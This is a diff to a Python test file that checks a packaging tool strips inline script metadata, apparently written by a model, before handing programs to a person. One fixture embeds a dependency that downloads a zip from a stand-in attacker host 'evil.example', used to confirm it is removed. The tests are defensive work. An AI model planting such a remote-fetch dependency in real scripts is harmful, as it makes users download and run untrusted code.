@@ -3,13 +3,14 @@ from __future__ import annotations
 import ast
 import re
 import subprocess
+import time
 
 import pytest
 
 from languages.python.candidates import START_FILES, program
 from languages.python.handover import handed_over
 from languages.python.handover.sentences import CODE_PAGE
-from languages.python.packages.metadata import packages_of, with_metadata
+from languages.python.packages.metadata import named_in, packages_of, with_metadata
 from languages.python.packages.shelf import pins
 from languages.types import NO_NEEDS, Candidate, Needs, Suite
 from translation import TONGUES, Tongue, here, speaking
@@ -34,7 +35,7 @@ def test_of_what_a_model_said_of_its_program_only_names_stay() -> None:
     assert packages_of(exact) == ("rich==14.0.0", "six==1.17.0")
     assert '# requires-python = ">=3.13"' in exact
     assert exact.splitlines()[4:5] == ["print(1)"]  # no line has another number
-    assert packages_of(with_metadata(ITS_OWN, ())) == ("rich",)
+    assert named_in(ITS_OWN) == ("rich",)
     files = handed_over(program(ITS_OWN), NO_TESTS, NO_NEEDS)
     assert b"PACKAGES=yes" in files[START_FILES["Linux"]].content
     assert packages_of("# /// script\n# dependencies = [\n# ///\n") == ()
@@ -49,6 +50,44 @@ def test_no_address_or_setting_of_a_models_reaches_the_person() -> None:
     assert "evil" not in source
     assert packages_of(source) == ("rich",)
     assert source.splitlines()[6] == "print(1)"
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        "# /// script\n# dependencies = []\n# ///\n\n",
+        "# /// script\n# dependencies = []\n# ///\n",
+        "# /// other\n# a = 1\n# ///\n\n",
+        "# /// script\n\n",
+        '"""\n',
+        "# /// script \n# ///\n\n",
+        "x = 1\r",
+        "\ufeff",
+    ],
+)
+def test_nothing_is_left_that_says_what_to_fetch_wherever_it_stands(before: str) -> None:
+    evil = '# /// script\n# dependencies = ["x @ https://evil.example/x.zip", "two words"]\n# ///'
+    after = '\n"""\ninput()\n' if before.startswith('"') else "\ninput()\n"
+    files = handed_over(program(f"{before}{evil}{after}"), NO_TESTS, NO_NEEDS)
+    source = files["solution.py"].content.decode()
+    assert "evil" not in source
+    assert source.count("/// script") == source.count("///") - 1 == 1
+    assert ast.parse(source).body, "it is a program still"
+    assert b"PACKAGES=no" in files[START_FILES["Linux"]].content
+
+
+@pytest.mark.parametrize("line", ["# /// script\n", "# ///\n", "# ///\n\n", "# /// x\n# ///\n"])
+def test_what_begins_such_a_comment_again_and_again_is_read_in_a_moment(line: str) -> None:
+    source = "# /// script\n" + line * 20_000
+    begun = time.process_time()
+    assert packages_of(source) == ()
+    assert "/// x" not in with_metadata(source, ())
+    assert time.process_time() - begun < 2
+
+
+@pytest.mark.parametrize("said", ["[" * 20_000, "9" * 5_000])
+def test_what_can_not_be_read_names_no_package(said: str) -> None:
+    assert packages_of(f"# /// script\n# dependencies = {said}\n# ///\n") == ()
 
 
 def test_there_are_start_files_where_there_is_something_to_start() -> None:
@@ -82,7 +121,7 @@ def test_what_starts_it_speaks_the_language_that_it_was_taken_in_and_nothing_rea
     shell = files[START_FILES["Linux"]].content.decode()
     assert closes in shell
     assert (closes if tongue.code != "ar" else "Press Enter to close.") in bat, "cmd can't show Arabic"
-    assert ('"yes"=="yes" chcp' in bat) == (tongue.code not in ("en", "ar"))
+    assert ('"yes"=="yes" "%SystemRoot%' in bat) == (tongue.code not in ("en", "ar"))
     before = english[START_FILES["Windows"]].content.decode(CODE_PAGE).splitlines()
     said = [line for line in bat.splitlines() if line not in before and line.startswith("echo ")]
     assert not [line for line in said if re.search(r"[&|<>^%\"]", line)]
